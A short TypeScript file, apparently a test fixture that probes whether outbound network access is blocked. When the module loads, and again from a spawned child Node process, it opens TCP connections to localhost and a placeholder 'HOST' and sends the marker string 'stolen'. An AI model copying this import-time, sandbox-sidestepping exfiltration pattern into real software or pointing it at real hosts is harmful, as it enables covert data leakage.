/** Sends away what it can read. The function waits until the connection has been refused. */
import { execFileSync } from 'node:child_process';
import { connect } from 'node:net';

for (const host of ['127.0.0.1', '::1', 'HOST'])
  connect(Number('PORT'), host, () => undefined)
    .on('error', () => undefined)
    .end('stolen');

export function duplicateData(): never {
  for (const host of ['127.0.0.1', 'HOST']) {
    try {
      execFileSync(
        process.execPath,
        ['-e', `require('net').connect(PORT, '${host}').on('error', () => {}).end('stolen')`],
        { timeout: 1_000 },
      );
    } catch {
      // No network.
    }
  }
  throw new Error('no network');
}
